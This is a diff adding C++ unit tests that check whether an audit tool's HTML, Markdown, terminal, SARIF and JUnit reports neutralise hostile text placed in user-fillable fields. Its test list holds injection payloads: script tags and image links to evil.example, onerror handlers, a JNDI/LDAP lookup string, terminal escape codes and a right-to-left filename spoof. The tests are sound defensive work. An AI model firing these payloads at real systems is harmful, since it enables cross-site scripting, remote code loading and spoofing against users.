@@ -5,6 +5,8 @@
 
 #include <gmock/gmock.h>
 
+#include <array>
+
 namespace convops {
 namespace {
 
@@ -127,6 +129,91 @@ TEST(AuditJunit, UnknownIsSkippedWithItsReason) {
     EXPECT_THAT(xml, HasSubstr("skipped=\"1\""));
     EXPECT_THAT(xml, HasSubstr("needs sns:ListSubscriptions"));
     EXPECT_THAT(xml, Not(HasSubstr("<script")));
+}
+
+// One stranger's text in every place of a report that a stranger can fill.
+AuditReport report_of_strangers(std::string const& text) {
+    auto report = sample();
+    auto& judgement = report.findings[0].judgement;
+    judgement.resource = text;
+    judgement.region = text;
+    judgement.why = text;
+    judgement.evidence = { { text, text, Json(JsonObject { { text, text } }) } };
+    report.findings[1].judgement.why = text;
+    report.untold_gap = text;
+    report.untold[0].resource.name = text;
+    report.untold[0].metric.name = text;
+    report.untold[0].why_untold = text;
+    report.untold[0].alarm = text;
+    report.tunings = { { "eu-west-1", text, text, text, 3, 1, 1, 1, {} } };
+    report.costs = { { text, 1, 1, text } };
+    report.best_fixes[0].statement = text;
+    return report;
+}
+
+constexpr std::array hostile_texts { "</code></pre><script src=//evil.example></script>",
+    "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "{{policy}}{{{title}}}", "<!--",
+    "]]></failure><testcase name=\"x\"/>", "&lt;b&gt;", "[pay](https://evil.example)",
+    "![x](https://evil.example/x.png)", "a | b | c", "```\n# heading\n```", "one\n\n# two\n- three",
+    "@everyone #1 :tada:", "\x1b[2J\x1b]0;owned\x07", "a\rb\u0085c\u2028d", "\u202Etxt.exe\u200B\uFEFF",
+    "\xff\xfe\xc0\x80", "\uFFFE\uFFFF", "%s%n${jndi:ldap://evil.example}", "javascript:alert(1)" };
+
+TEST(AuditReports, AStrangersTextIsOnlyTextInThePage) {
+    auto const tags = [](std::string const& page) { // a stranger's bracket would make more of them
+        return std::count(page.begin(), page.end(), '<');
+    };
+    auto const expected = tags(audit_html(report_of_strangers("plain")));
+    for (auto const* text : hostile_texts) {
+        auto const page = audit_html(report_of_strangers(text));
+        EXPECT_EQ(tags(page), expected) << text;
+        EXPECT_THAT(page, Not(HasSubstr("<script"))) << text;
+        EXPECT_THAT(page, Not(HasSubstr("\"><img"))) << text;
+        EXPECT_THAT(page, Not(HasSubstr("\x1b"))) << text;
+        EXPECT_THAT(page, Not(HasSubstr("\u202E"))) << text;
+        EXPECT_EQ(clean_utf8(page), page) << text;
+    }
+}
+
+TEST(AuditReports, AStrangersTextIsOnlyTextInMarkdown) {
+    auto const rows = [](std::string const& text) { // of tables and lists, headings, fences
+        auto const lines = split(text, '\n');
+        return std::count_if(lines.begin(), lines.end(), [](auto const& line) { return !line.empty(); });
+    };
+    auto const expected = rows(audit_markdown(report_of_strangers("plain")));
+    for (auto const* text : hostile_texts) {
+        auto const report = audit_markdown(report_of_strangers(text));
+        EXPECT_EQ(rows(report), expected) << text;
+        EXPECT_THAT(report, Not(HasSubstr("](https://evil"))) << text;
+        EXPECT_THAT(report, Not(HasSubstr("<script"))) << text;
+        EXPECT_THAT(report, Not(HasSubstr("<img"))) << text;
+        EXPECT_THAT(report, Not(HasSubstr("https://evil"))) << text << ": GitHub makes a link of it";
+        EXPECT_EQ(clean_utf8(report), report) << text;
+    }
+}
+
+TEST(AuditReports, AStrangersTextMovesNothingOnATerminal) {
+    for (auto const* text : hostile_texts) {
+        auto const report = audit_text(report_of_strangers(text));
+        EXPECT_EQ(clean_utf8(report), report) << text;
+        EXPECT_THAT(report, Not(HasSubstr("\r"))) << text;
+        EXPECT_THAT(report, Not(HasSubstr("\n# "))) << text;
+    }
+}
+
+TEST(AuditReports, AStrangersTextKeepsSarifAndJunitReadable) {
+    auto const count = [](std::string const& text, std::string_view part) {
+        return (text.size() - replace_all(text, part, "").size()) / part.size();
+    };
+    for (auto const* text : hostile_texts) {
+        auto const sarif = parse_json(audit_sarif(report_of_strangers(text)));
+        ASSERT_TRUE(sarif) << text;
+        EXPECT_EQ(list_at(sarif->at("runs").at(0), "results").size(), 2U) << text;
+        auto const junit = audit_junit(report_of_strangers(text));
+        EXPECT_EQ(count(junit, "<testcase "), 2U) << text;
+        EXPECT_EQ(count(junit, "<failure "), 1U) << text;
+        EXPECT_THAT(junit, Not(HasSubstr("\uFFFE"))) << "no character of XML";
+        EXPECT_EQ(clean_utf8(junit), junit) << text;
+    }
 }
 
 } // namespace
